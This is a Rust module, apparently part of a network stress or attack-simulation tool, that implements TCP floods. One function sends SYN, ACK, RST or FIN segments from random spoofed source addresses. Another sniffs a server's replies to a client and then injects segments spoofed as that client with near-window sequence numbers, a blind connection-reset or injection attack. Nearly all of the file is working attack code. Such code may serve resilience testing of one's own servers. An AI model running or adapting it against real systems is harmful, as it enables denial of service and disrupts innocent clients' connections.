//! Floods of single segments: from addresses at random, or in the name of clients that are there.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};

use millrace_frames::{Owners, RxBatch};
use millrace_port::{Port, clock};
use millrace_wire::tcp::Flags;

use super::craft::{Craft, Dice, Gun, Wire, answer, answers, nothing, syn_options};
use super::{Figures, Segment, Strength};
use crate::ports::Network;

/// How far from what is expected the numbers of near segments lie, at most.
const NEAR: u32 = 1 << 17;
/// How near they do not come: an exact reset would rightly end the connection, and what is expected
/// moves on before the segment is there.
const EXACT: u32 = 1 << 13;
/// Clients that are remembered.
const CLIENTS: usize = 256;

fn flags(segment: Segment) -> Flags {
    match segment {
        Segment::Syn => Flags::SYN,
        Segment::Ack => Flags::ACK,
        Segment::Rst => Flags::RST,
        Segment::Fin => Flags::FIN | Flags::ACK,
    }
}

pub(super) fn random(
    interface: &str,
    wire: Wire,
    segment: Segment,
    strength: &Strength,
    mut dice: Dice,
) -> io::Result<Figures> {
    let mut gun = Gun::new(interface, wire, strength.packets_per_s, nothing())?;
    let options = syn_options();
    let options = if segment == Segment::Syn { options.padded() } else { &[] };
    while gun.elapsed() < strength.time {
        for _ in 0..gun.allowance() {
            let (one, other) = (dice.roll(), dice.roll());
            let port = 1024 + (one >> 32) as u16 % (u16::MAX - 1024);
            gun.load(&Craft {
                from: SocketAddrV4::new(wire.source(one as u32), port),
                flags: flags(segment),
                sequence: other as u32,
                acknowledgement: (other >> 32) as u32,
                options,
                payload: &[],
            });
        }
        gun.fire()?;
    }
    Ok(vec![("sent", gun.packets_sent()), ("micros", gun.elapsed().as_micros() as u64)])
}

/// A connection of a client's, as the server's last segment to it told.
#[derive(Clone, Copy)]
struct Seen {
    client: SocketAddrV4,
    /// What the server expects next.
    expected: u32,
    /// What the server sends next.
    next: u32,
}

pub(super) fn near(
    interface: &str,
    wire: Wire,
    client: Ipv4Addr,
    segment: Segment,
    strength: &Strength,
    mut dice: Dice,
) -> io::Result<Figures> {
    let of_client = Network { address: client, prefix: 32 };
    let filter = answers(&wire, of_client);
    let mut gun = Gun::new(interface, wire, strength.packets_per_s, filter)?;
    let mut clients: Vec<Seen> = Vec::with_capacity(CLIENTS);
    while gun.elapsed() < strength.time {
        listen(&mut gun, &mut clients)?;
        if clients.is_empty() {
            std::thread::sleep(std::time::Duration::from_millis(1));
            continue;
        }
        for _ in 0..gun.allowance() {
            let (one, other) = (dice.roll(), dice.roll());
            let seen = clients[one as usize % clients.len()];
            let away = EXACT + (other as u32) % (NEAR - EXACT);
            let sequence = match other >> 63 {
                0 => seen.expected.wrapping_add(away),
                _ => seen.expected.wrapping_sub(away),
            };
            // A blind attacker does not know what the client has acknowledged.
            let acknowledgement = seen.next.wrapping_add((one >> 32) as u32);
            gun.load(&Craft {
                from: seen.client,
                flags: flags(segment),
                sequence,
                acknowledgement,
                options: &[],
                payload: &[],
            });
        }
        gun.fire()?;
    }
    Ok(vec![
        ("sent", gun.packets_sent()),
        ("micros", gun.elapsed().as_micros() as u64),
        ("clients_seen", clients.len() as u64),
    ])
}

/// Learns from what the server sends to its clients.
fn listen(gun: &mut Gun, clients: &mut Vec<Seen>) -> io::Result<()> {
    let mut batch = RxBatch::new();
    gun.port.rx(clock::now(), &mut gun.arena, &mut batch)?;
    for &head in batch.iter() {
        if let Some((client, segment)) = answer(gun.arena.bytes(head)) {
            let place = clients.iter().position(|seen| seen.client == client);
            let flags = segment.flags();
            if flags.intersects(Flags::FIN | Flags::RST) {
                // It is over.
                if let Some(place) = place {
                    clients.swap_remove(place);
                }
            } else {
                let seen = Seen {
                    client,
                    expected: segment.acknowledgement().0,
                    next: segment.sequence().0.wrapping_add(segment.payload().len() as u32),
                };
                match place {
                    Some(place) => clients[place] = seen,
                    None if clients.len() < CLIENTS => clients.push(seen),
                    None => {}
                }
            }
        }
        gun.arena.release_chain(head, Owners::RECEIVED);
    }
    Ok(())
}
